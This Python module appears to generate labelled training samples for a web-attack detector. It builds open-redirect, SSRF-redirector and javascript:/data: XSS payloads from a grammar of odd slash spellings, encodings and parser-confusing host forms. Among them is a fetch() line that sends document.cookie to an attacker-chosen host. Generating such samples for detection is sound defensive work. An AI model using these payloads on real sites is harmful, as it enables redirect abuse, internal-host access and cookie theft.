"""Open redirects: addresses that a check reads as local or as its own site, and a browser as another's; redirectors to inner hosts."""

from __future__ import annotations

from random import Random
from urllib.parse import quote

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS, syllables
from securitai.train.corpora.attacks.ssrf_inner import inner_url
from securitai.train.corpora.kinds import PATH, VALUE, AttackKind
from securitai.train.corpora.normal.base import domain, pick
from securitai.train.corpora.normal.base import host as public_host
from securitai.verdict import Category

_SLASHES = (
    "/", "\\", "%2f", "%5c", "%2F", "%5C", "%252f", "%255c", "\\/", "/\\", "\uff0f", "\u2044", "\u3031",
    "\u3033", "%e3%80%b1", "%ef%bc%8f", "%u2215", "&#47;", "&sol;", "%%32%66",
)  # fmt: skip
_GAPS = (
    "%09", "%0a", "%0d", "%0d%0a", "\t", "\n", "\r\n", "%20", " ", "%00", "%01", "%0b", "%0c", "%2e", ";", "%3b", "%c2%a0", "%e2%80%8b",
    "%07", "%1f", "&Tab;", "&NewLine;",
)  # fmt: skip


def lead(rng: Random) -> str:
    """What stands before the other host: two or more slashes in odd spellings, with gaps."""
    roll = rng.random()
    first = _SLASHES[int(rng.random() * len(_SLASHES))] if roll < 0.6 else "/"
    second = _SLASHES[int(rng.random() * len(_SLASHES))]
    if roll < 0.3:
        return first + second
    gap = _GAPS[int(rng.random() * len(_GAPS))]
    if roll < 0.4:
        return first + gap + second
    if roll < 0.5:
        return gap + first + second
    if roll < 0.6:
        return first + second + gap
    if roll < 0.72:
        return "/" * (3 + int(rng.random() * 4))
    if roll < 0.8:
        return "/" + gap + "/"
    return "/" + second * (1 + int(rng.random() * 3))


_G = Grammar(
    r"""
other:
  4×‹pub›
  3×‹dom›
  2×‹evil›.‹tld›
  ‹evil›-‹syl›.‹tld›
  example.com
  ‹ip›
  ‹#1000000000-3999999999›
  0x‹hextext›
leadtail = ¦¦¦¦/¦/¦/%2f..¦/..¦/%2e%2e¦/%2e%2e%2f¦/%252e%252e%252f¦//¦?¦#¦%2f%2e%2e¦/..;/¦/%2f%2e%2e%2f¦/login¦%00¦/%3f¦\
leading:
  6×‹lead›‹other›‹leadtail›
  //‹other›‹fixtail›
  //‹good›@‹other›‹leadtail›
  //‹az›:‹az›@‹other›‹leadtail›
  /‹word1›/../‹lead›‹other›
  /‹.¦..¦;›/‹lead›‹other›
  .‹lead›‹other›
  /‹word1›‹lead›‹other›/%2e%2e
fixtail = /%2f..¦/..¦/%2e%2e¦//¦/%2e%2e%2f¦%2f%2e%2e¦;@¦\
scheme:
  3×‹https¦http¦https›:‹other›‹leadtail›
  2×‹https¦http›:/‹other›‹leadtail›
  2×‹https¦http›:‹slashrun›‹other›‹leadtail›
  ‹hTTps¦HTTPS¦hTtP¦Http¦HTTP›:‹/¦//¦\\¦›‹other›
  ‹gap›http‹?s1›://‹other›‹leadtail›
  http‹?s1›:‹gap›//‹other›
  ht‹gap›tps://‹other›
  http‹?s1›://‹gap›‹other›
  http‹?s1›%3a‹\\¦%5c%5c¦/%5c›‹other›
  http‹?s1›%253A%252F%252F‹other›‹leadtail›
  /http‹?s1›:‹//¦/¦\\¦/%5c¦%2f%2f¦›‹other›‹leadtail›
  //http‹?s1›:‹//¦›‹other›
  http‹?s1›://http‹?s1›://‹other›
  http‹?s1›;‹//¦\\›‹other›
  ‹x¦0¦data¦http›:http‹?s1›://‹other›
  ://‹other›
  ‹:¦;¦@¦.¦,¦~›‹/¦//¦\\¦/\›‹other›/
  ?‹next¦url¦return¦r¦redirect¦to›=‹lead›‹other›
  ‹next¦url¦return¦r¦redirect¦to›=http‹?s1›:‹/¦\\¦›‹other›
  /‹redirect¦r¦go¦out¦login¦logout¦exit›?‹next¦url¦return¦r¦to¦u›=‹lead›‹other›‹leadtail›
  /‹redirect¦r¦go¦out¦login¦logout¦exit›?‹next¦url¦return¦r¦to¦u›=http‹?s1›:‹\\¦/¦///›‹other›
s1 = s
slashrun = ///¦////¦/////¦\\¦\/¦/\¦\\\\¦//\¦\\/¦/%5c¦%5c%5c¦%2f%2f¦/%09/¦/%0a/¦//%2f¦%2f¦/./¦//;@¦//%00
good:
  3×‹pub›
  ‹dom›
  localhost
  example.com
confused:
  3×http‹?s1›://‹good›‹join›@‹other›‹leadtail›
  2×http‹?s1›://‹other›‹mark›‹good›‹leadtail›
  2×http‹?s1›://‹other›‹mark›@‹good›
  http‹?s1›://‹good›:‹80¦443¦pass¦x¦@¦%40›@‹other›
  http‹?s1›://‹good›‹cut›.‹other›
  http‹?s1›://‹other›‹cut›.‹good›
  http‹?s1›://‹evil›.‹tld›/‹http://¦https://¦//›‹good›
  http‹?s1›://‹evil›.‹tld›‹?¦#¦?u=¦?next=›http‹?s1›://‹good›
  http‹?s1›:‹\\¦\/›‹good›@‹other›
  //‹other›‹mark›‹good›
  //‹other›‹mark›@‹good›
  //‹good›‹join›@‹other›
  //‹good›‹cut›.‹other›/
  ‹good›:80‹#¦?¦;›@‹other›/
  http‹?s1›://‹good›‹%2540¦%40¦%252540¦\@¦%5c@¦&@¦;@¦ @›‹other›
  http‹?s1›://[‹other›]‹@¦›‹good›
  http‹?s1›://‹good›/‹..¦%2e%2e¦.¦;›//‹other›/
  http‹?s1›://‹good›//‹other›/%2e%2e
  http‹?s1›://‹good›‹lead›‹other›
join = ¦¦¦:80¦%20¦%00¦%09¦%0a¦\¦;¦&¦#¦%23¦?¦%3f¦%5b¦~¦!¦%ff
mark = \¦\\¦%5c¦%255c¦%23¦%2523¦??¦%3f¦;¦%3b¦%00¦%0a¦%0d%0a¦%09¦&¦&#46;¦\.¦#.¦?.¦#\¦\#¦%00.¦%E3%80%82¦%ff¦%ff.¦[¦`¦|¦^¦{¦}
cut = %00¦%0a¦%0d%0a¦%09¦%20¦%23¦%2523¦%5c¦%2f¦%252f¦%3f¦%253f¦%40¦\¦%E3%80%82¦%ff¦%E2%80%8B¦&¦`¦%bf¦%0
script:
  3×‹jscript›:‹slash2›‹code›
  2×‹jscript›:‹code›‹//¦#¦?¦/*¦;//›‹good›
  ‹jscript›://‹good›/‹%0a¦%0d¦%0d%0a¦%E2%80%A8¦?%0a¦%250a›‹code›
  ‹gap›‹jscript›:‹code›
  ‹/¦//¦///¦\¦;¦.›‹jscript›:‹code›
  data:text/html,‹<script>¦%3Cscript%3E¦<svg/onload=›‹code›‹</script>¦%3C/script%3E¦>›
  data:text/html;base64,PHNjcmlwdD5hbGVydCg‹b64›
  data:text/html‹;charset=utf-8¦›,<script>location='//‹other›'</script>
  vbscript:msgbox(‹#1-99›)
  ‹x¦feed¦view-source¦jar¦livescript¦mocha›:javascript:‹code›
jscript = javascript¦javascript¦JavaScript¦jAvAsCrIpT¦java%0ascript¦java%09script¦java%0d%0ascript¦javascript%3a¦\x6aavascript¦\u006aavascript¦&#106;avascript¦%6aavascript¦JAVASCRIPT¦javascript&colon;¦ja\nva\tscript¦javascript%0a
slash2 = ¦¦//%0a¦//%0d%0a¦/**/¦//\n¦;¦void ¦%20¦/*¦//%250a
code:
  2×‹alert¦confirm¦prompt¦print›(‹#1-9999›)
  ‹alert¦confirm¦prompt›(document.‹cookie¦domain›)
  ‹alert¦confirm¦prompt›`‹#1-99›`
  location‹=¦.href=¦.replace›('//‹other›')
  eval(name)
  fetch('//‹other›/'+document.cookie)
  top[‹#1-9›]||alert(‹#1-9›)
  %61lert(‹#1-99›)
""",
    PARTS,
    {
        "lead": lead,
        "gap": lambda rng: _GAPS[int(rng.random() * len(_GAPS))],
        "pub": public_host,
        "dom": domain,
    },
)
_BOUNCERS = ("r3dir.me/--to/", "307.r3dir.me/--to/", "httpbin.org/redirect-to", "tinyurl.com/create")  # fmt: skip
_PAGES = ("redirect", "r", "302.php", "redir.php", "proxy", "fetch", "out", "go", "link", "preview", "open")  # fmt: skip
_KEYS = ("url", "to", "u", "dest", "target", "next", "uri", "redirect", "link", "goto", "q")
_PROXIES = ("", "", "proxy/", "fetch/", "_proxy/", "api/proxy/", "image/", "thumb/100x100/", "cors/")  # fmt: skip


def carried(rng: Random) -> str:
    """A URL of a redirector, proxy or converter that carries an inner URL."""
    inner = inner_url(rng)
    roll = rng.random()
    if roll < 0.45:
        inner = quote(inner, safe="")
    elif roll < 0.55:
        inner = quote(quote(inner, safe=""), safe="")
    site = public_host(rng)
    bouncer = pick(rng, (*_BOUNCERS, f"ssrf.{site}/", f"{site}/"))
    page, name = pick(rng, _PAGES), pick(rng, _KEYS)
    forms = (
        f"https://{bouncer}?{name}={inner}", f"http://{site}/{page}?{name}={inner}", f"https://{site}/{page}?{name}={inner}",
        f"http://{site}/{page}/{inner}", f"/{page}?{name}={inner}", f"//{site}/{page}?{name}={inner}", f"{name}={inner}",
        f"http://localhost/{page}?{name}={inner}", f"https://{site}/?{name}={inner}&status_code={pick(rng, ('301', '302', '307'))}",
    )  # fmt: skip
    return forms[int(rng.random() * len(forms))]


def in_path(rng: Random) -> str:
    """An inner URL as the path or its end, as open proxies take it."""
    inner = inner_url(rng)
    if "://" not in inner:
        inner = "http://" + inner.lstrip("/")
    if rng.random() < 0.3:
        inner = inner.replace("://", ":/", 1)
    page = pick(rng, (*_PROXIES, syllables(rng) + "/"))
    return f"/{page}{quote(inner, safe='') if rng.random() < 0.2 else inner}"


_BOTH = (VALUE, PATH)
KINDS = (
    AttackKind("redirect.lead", Category.SSRF, _G.maker("leading"), 1.0, _BOTH),
    AttackKind("redirect.scheme", Category.SSRF, _G.maker("scheme"), 0.8, (VALUE,)),
    AttackKind("redirect.confused", Category.SSRF, _G.maker("confused"), 0.9, (VALUE,)),
    AttackKind("ssrf.carried", Category.SSRF, carried, 0.5, (VALUE,)),
    AttackKind("ssrf.in_path", Category.SSRF, in_path, 0.3, (PATH,)),
    AttackKind("redirect.script", Category.XSS, _G.maker("script"), 0.3, (VALUE,)),
)
